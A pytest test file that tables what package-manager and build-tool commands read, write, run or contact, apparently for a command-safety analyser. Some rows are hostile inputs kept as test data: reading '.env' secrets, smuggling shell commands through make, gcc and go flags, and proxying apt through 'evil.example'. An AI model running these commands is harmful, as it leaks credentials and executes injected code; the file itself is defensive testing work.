"""What package managers and build tools do."""

import pytest
from deeds import deeds_of, printed_by, rows

DEEDS = r"""
pip install requests ⇒ talk to registry pypi
pip install -r req.txt ⇒ read req.txt; talk to registry pypi
pip install -e . ⇒ read .; talk to registry pypi
pip install --index-url https://idx.example/simple x ⇒ talk to idx.example; talk to registry pypi
pip install git+https://git.example/r ⇒ talk to registry pypi; talk to git.example
pip install 'x @ https://a.example/x.whl' ⇒ talk to registry pypi; talk to a.example
pip install ./x.whl ⇒ maybe ./x.whl; talk to registry pypi
python3 -m pip install x ⇒ run pip install x
uv pip install x ⇒ talk to registry pypi
uv run python -c 'print(1)' ⇒ run python -c print(1)
uv run --with x script.py ⇒ talk to registry pypi; run python script.py
uvx ruff check . ⇒ talk to registry pypi; run ruff check .
pipx run x ⇒ talk to registry pypi; run x
poetry add x ⇒ talk to registry pypi
npm ci ⇒ talk to registry npmjs
npm install ⇒ talk to registry npmjs
npm install user/repo ⇒ talk to registry npmjs; talk to github.com
npm install github:user/repo ⇒ talk to registry npmjs; talk to github.com
npm install --registry https://reg.example x ⇒ talk to reg.example; talk to registry npmjs
npm run build ⇒ nothing
npm test ⇒ nothing
npm exec -- cat .env ⇒ talk to registry npmjs; run cat .env
npx -c 'cat .env' ⇒ talk to registry npmjs; shell cat .env
npx prettier a.js ⇒ talk to registry npmjs; run prettier a.js
yarn ⇒ talk to registry yarnpkg
yarn add x ⇒ talk to registry yarnpkg
pnpm dlx x ⇒ talk to registry npmjs; run x
bun install ⇒ talk to registry npmjs
cargo build ⇒ talk to registry crates
cargo install --git https://git.example/r ⇒ talk to registry crates; talk to git.example
cargo run -- a ⇒ talk to registry crates
go build -o out ./... ⇒ write out; maybe ./...; talk to registry golang
go get example.org/x ⇒ talk to registry golang
go test ./... ⇒ maybe ./...; talk to registry golang
go run -exec 'sh x' . ⇒ talk to registry golang; shell sh x
mvn -f pom.xml test ⇒ read pom.xml; talk to registry maven
gradle build ⇒ talk to registry maven
gem install x ⇒ talk to registry rubygems
bundle exec rake ⇒ talk to registry rubygems; run rake
composer install ⇒ talk to registry packagist
apt-get install -y x ⇒ talk to registry debian
apt-get -o Acquire::http::Proxy=http://evil.example update ⇒ talk to registry debian; talk to evil.example
apk add x ⇒ talk to registry alpine
brew install x ⇒ talk to registry homebrew
conda run -n env cat .env ⇒ run cat .env
make ⇒ nothing
make -C sub test ⇒ read sub
make -f other.mk ⇒ read other.mk
make X='$(shell cat .env)' ⇒ shell cat .env
make --eval='x:;cat .env' x ⇒ shell cat .env
make -f - <<< a:\n\t@cat .env\n ⇒ nothing
gcc -o out a.c -Iinc ⇒ write out; read inc; read a.c
gcc -x c -E .env ⇒ read .env
gcc @opts ⇒ read opts
gcc -wrapper sh,-c,x a.c ⇒ read sh,-c,x; read a.c; run sh -c x
pytest tests -k x ⇒ maybe tests
pytest -c conf.ini ⇒ read conf.ini
ruff check . ⇒ maybe check; maybe .
tsc -p tsconfig.json ⇒ nothing
cmake -S . -B build ⇒ read .; read build
dpkg -i a.deb ⇒ read a.deb
nix-shell -p x ⇒ talk to registry nixos
"""

PRINTS = r"""
pip list ⇒ TAME\n
pip --version ⇒ TAME\n
brew --prefix ⇒ TAME\n
"""


@pytest.mark.parametrize(("command", "deeds"), rows(DEEDS))
def test_it_is_known_what_they_read_write_run_and_talk_to(command: str, deeds: str) -> None:
    assert deeds_of(command) == deeds


@pytest.mark.parametrize(("command", "text"), rows(PRINTS))
def test_it_is_known_what_they_print(command: str, text: str) -> None:
    assert printed_by(command) == text
